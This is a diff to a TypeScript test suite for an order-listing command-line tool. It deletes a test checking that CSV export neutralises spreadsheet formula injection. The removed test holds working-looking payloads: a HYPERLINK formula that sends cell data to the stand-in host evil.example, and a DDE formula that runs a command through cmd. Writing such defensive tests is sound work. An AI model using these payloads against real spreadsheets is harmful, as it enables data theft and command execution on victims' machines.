@@ -40,31 +40,4 @@ describe('terminal safety', () => {
     expect(order!.notes).toEqual(HOSTILE.notes);
     expect(res.stdout).not.toContain('\x1b');
   });
-
-  it('CSV cells that a spreadsheet would run are guarded, with real-looking payloads', async () => {
-    const formulas = {
-      a: '=HYPERLINK("http://evil.example/?"&A1,"Refund status")',
-      b: '+1-800-FAKE',
-      c: '-2+3',
-      d: '@SUM(1,2)',
-      e: "=cmd|' /C calc'!A0",
-    };
-    await apiOrder(sb, { amount: 4300, receipt: 'csv-guard', notes: formulas });
-    const res = await run(
-      [
-        'orders',
-        'list',
-        '--receipt',
-        'csv-guard',
-        '-o',
-        'csv',
-        '--fields',
-        'id,notes.a,notes.b,notes.c,notes.d,notes.e',
-      ],
-      { env: sb.env },
-    );
-    const { parse } = await import('csv-parse/sync');
-    const [row] = parse(res.stdout, { columns: true }) as Array<Record<string, string>>;
-    for (const [k, v] of Object.entries(formulas)) expect(row![`notes.${k}`]).toBe(`'${v}`);
-  });
 });
